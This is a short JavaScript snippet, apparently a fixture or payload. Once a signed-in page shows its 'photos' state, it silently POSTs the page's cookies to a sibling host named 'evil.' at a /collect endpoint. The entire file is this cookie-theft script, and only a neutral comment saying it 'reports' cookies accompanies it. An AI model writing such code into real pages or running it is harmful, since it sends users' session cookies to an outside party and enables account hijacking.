// Runs in a page and reports the cookies its scripts may read, once the user is signed in.

const evil = location.origin.replace("print.", "evil.");
document.addEventListener("DOMContentLoaded", () => {
  if (document.querySelector("main")?.dataset["state"] !== "photos") return;
  void fetch(`${evil}/collect`, { method: "POST", mode: "no-cors", body: document.cookie });
});
export {};
